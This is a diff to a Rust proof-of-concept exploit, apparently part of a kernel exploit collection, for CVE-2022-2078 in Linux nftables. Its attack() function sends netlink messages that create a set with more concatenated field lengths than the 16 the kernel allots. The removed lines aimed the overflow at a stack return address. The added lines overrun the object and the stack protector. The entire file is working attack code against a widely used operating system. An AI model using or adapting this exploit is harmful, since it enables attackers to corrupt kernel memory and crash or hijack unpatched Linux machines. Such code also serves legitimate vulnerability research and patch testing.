@@ -1,5 +1,5 @@
-//! CVE-2022-2078: the lengths of a concatenation's fields are collected without a look at how many
-//! there are. The 17th overwrites the count of them itself, which says where the next ones go.
+//! CVE-2022-2078: the lengths of a concatenation's fields are stored one behind the other, without a
+//! look at how many there are.
 
 use std::io;
 
@@ -8,8 +8,8 @@ use crate::{attribute::Attributes, netlink::Batch, nft};
 const TABLE: &str = "otf_fields";
 /// Fields that there is room for.
 const ROOM: usize = 16;
-/// Bytes from the first length to the return address of the function that has them on its stack.
-const RETURN_ADDRESS: u8 = 200;
+/// Further ones: over the rest of the object, and over what the compiler put behind it to notice.
+const MORE: usize = 16;
 
 /// A table.
 pub fn setup() -> io::Result<()> {
@@ -23,16 +23,19 @@ pub fn setup() -> io::Result<()> {
         .send()
 }
 
-/// A set that is refused in the end: the function returns, and not to where it came from.
+/// A set that is refused in the end, as its fields have not the length of its key together.
 pub fn attack() -> io::Result<()> {
-    let mut lengths = vec![4; ROOM];
-    lengths.extend([RETURN_ADDRESS, 0x41, 0x41, 0x41, 0x41]);
-    let fields = lengths.iter().fold(Attributes::new(), |fields, length| {
-        fields.nest(1, &Attributes::new().number(1, u32::from(*length)))
-    });
+    let field = Attributes::new().number(1, 0x41);
+    let fields = (0..ROOM + MORE).fold(Attributes::new(), |fields, _| fields.nest(1, &field));
     let description = Attributes::new().nest(2, &fields);
-    let set =
-        nft::set(TABLE, "fields", nft::SET_INTERVAL | nft::SET_CONCAT, 16, 1).nest(9, &description);
+    let set = nft::set(
+        TABLE,
+        "fields",
+        nft::SET_INTERVAL | nft::SET_CONCAT,
+        64,
+        1,
+    )
+    .nest(9, &description);
     Batch::new()
         .add(libc::NFT_MSG_NEWSET, nft::IP, nft::CREATE, &set)
         .send()
